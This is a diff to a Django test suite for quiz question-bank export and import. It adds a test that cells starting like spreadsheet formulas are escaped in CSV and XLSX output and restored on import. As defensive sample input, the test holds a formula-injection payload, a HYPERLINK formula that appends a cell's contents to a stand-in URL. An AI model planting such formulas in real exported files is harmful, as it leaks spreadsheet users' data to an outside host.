@@ -1,9 +1,11 @@
 """Question banks: quizzes out to CSV, XLSX and JSON and back with every field, bad files
 refused whole with errors naming row and column, the template file, the admin's pages."""
 
+import csv
 import io
 import re
 
+import openpyxl
 import pytest
 import tablib
 from django.contrib.auth.models import User
@@ -14,7 +16,7 @@ from quizzes import banks, services
 from quizzes.models import Choice, Question, Quiz
 from quizzes.sample import load_sample_quiz
 from quizzes.sample_pictures import clock
-from tests.support.quizzes import make_quiz_of_every_kind
+from tests.support.quizzes import make_quiz, make_quiz_of_every_kind
 
 pytestmark = pytest.mark.django_db
 Kind = Question.Kind
@@ -79,6 +81,39 @@ def test_a_quiz_of_every_kind_goes_out_and_comes_back_with_every_field(file_form
     assert snapshot(imported) == before
     assert {q.kind for q in imported.questions.all()} == set(Kind.values)
     assert services.session_create(quiz=imported).pk  # playable, by the session's own rules
+
+
+@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
+def test_a_cell_that_starts_like_a_formula_goes_out_inert_and_comes_back_as_it_was(file_format):
+    """A spreadsheet opening an exported bank runs no formula a question's author wrote."""
+    quiz = make_quiz(questions=1)
+    quiz.description = "@SUM(1+1)"
+    quiz.save()
+    question = quiz.questions.get()
+    question.prompt = '=HYPERLINK("http://example.com/?"&A1, "Click")'
+    question.save()
+    texts = ["+1", "-ing", "'quoted", "''=twice"]
+    for choice, text in zip(question.choices.all(), texts):
+        choice.text = text
+        choice.save()
+    before = snapshot(quiz)
+    data = as_bytes(banks.bank_export(quizzes=Quiz.objects.filter(pk=quiz.pk), file_format=file_format))
+
+    if file_format == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+        assert all(cell.data_type != "f" for cell in cells)
+        written = [cell.value for cell in cells]
+    else:
+        written = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
+    unsafe = [cell for cell in written if isinstance(cell, str) and cell.startswith(("=", "+", "-", "@"))]
+    assert unsafe == [], unsafe
+    assert {"'" + question.prompt, "'+1", "'-ing", "''quoted", "'''=twice", "'@SUM(1+1)"} <= set(written), written
+
+    quiz.delete()
+    result = banks.bank_import(data=data, file_format=file_format)
+    assert banks.import_problems(result) == []
+    assert snapshot(Quiz.objects.get()) == before
 
 
 def test_importing_a_quiz_onto_itself_updates_it_in_place():
